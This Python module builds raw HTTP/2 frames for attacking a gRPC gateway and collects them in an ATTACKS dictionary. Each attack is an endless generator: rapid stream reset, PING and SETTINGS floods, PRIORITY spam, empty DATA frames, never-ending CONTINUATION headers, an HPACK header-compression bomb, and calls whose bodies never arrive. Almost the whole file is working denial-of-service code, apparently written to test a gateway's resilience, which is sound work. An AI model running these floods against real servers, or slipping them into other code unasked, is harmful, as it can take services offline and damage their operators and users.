"""Frames of HTTP/2 written by hand: what no client library would send."""

from collections.abc import Callable, Iterator
from itertools import count

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
_NO_MESSAGE = b"\0\0\0\0\0"
# What is written at once.
_FRAMES = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One, of 16 MB at most."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
SETTINGS_TAKEN = frame(SETTINGS, ACK, 0)
"""What a client says first, and what it says to the server's own settings."""


def field(name: str, value: str, *, is_kept: bool = False) -> bytes:
    """One of a list of headers, not compressed; `is_kept` puts it into the server's table."""
    return (b"\x40" if is_kept else b"\0") + _text(name) + _text(value)


def _text(text: str) -> bytes:
    size = len(text)
    if size < 127:
        return bytes((size,)) + text.encode()
    left, told = size - 127, [127]
    while left >= 128:
        told.append(left % 128 + 128)
        left //= 128
    return bytes((*told, left)) + text.encode()


def request(path: str, key: str = "") -> bytes:
    """The headers of a call of gRPC."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "gateway", "te": "trailers",
        "content-type": "application/grpc",
    }  # fmt: skip
    given = fields | ({"authorization": f"Bearer {key}"} if key else {})
    return b"".join(field(*each) for each in given.items())


def call(stream: int, path: str, key: str = "") -> bytes:
    """A call with an empty message."""
    return frame(HEADERS, END_HEADERS, stream, request(path, key)) + frame(
        DATA, END_STREAM, stream, _NO_MESSAGE
    )


def resets(path: str, key: str = "") -> Iterator[bytes]:
    """Calls that are begun and reset, one after the other: rapid reset."""
    head = request(path, key)
    cancel = (8).to_bytes(4, "big")
    for first in count(1, 2 * _FRAMES):
        streams = range(first, first + 2 * _FRAMES, 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, n, head) + frame(RST_STREAM, 0, n, cancel) for n in streams
        )


def pings(*_: str) -> Iterator[bytes]:
    """Each asks for an answer."""
    yield from _always(frame(PING, 0, 0, bytes(8)))


def settings(*_: str) -> Iterator[bytes]:
    """Each asks for an acknowledgement."""
    yield from _always(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"))


def priorities(*_: str) -> Iterator[bytes]:
    """They mean nothing to gRPC."""
    yield from _always(frame(PRIORITY, 0, 1, bytes(5)))


def empty(path: str, key: str = "") -> Iterator[bytes]:
    """A call whose body comes in frames of nothing."""
    yield frame(HEADERS, END_HEADERS, 1, request(path, key))
    yield from _always(frame(DATA, 0, 1))


def endless(path: str, key: str = "") -> Iterator[bytes]:
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, request(path, key))
    yield from _always(frame(CONTINUATION, 0, 1, field("x", "a" * 16_000)), 8)


def huge(path: str, key: str = "") -> Iterator[bytes]:
    """Calls with headers of megabytes, of which each byte stands for four kilobytes."""
    kept = field("x", "a" * 4000, is_kept=True)
    for stream in count(1, 2):
        # 0xbe is the newest entry of the table.
        head = request(path, key) + (kept if stream == 1 else b"") + b"\xbe" * 10_000
        yield frame(HEADERS, END_HEADERS, stream, head)


def halves(path: str, key: str = "") -> Iterator[bytes]:
    """Calls whose body never comes."""
    head = request(path, key)
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, head)


def _always(one: bytes, times: int = _FRAMES) -> Iterator[bytes]:
    many = one * times
    while True:
        yield many


ATTACKS: dict[str, Callable[[str, str], Iterator[bytes]]] = {
    each.__name__: each for each in (resets, pings, settings, priorities, empty, endless, huge, halves)
}
"""What one connection says behind its hello, for ever, given a path and a key."""
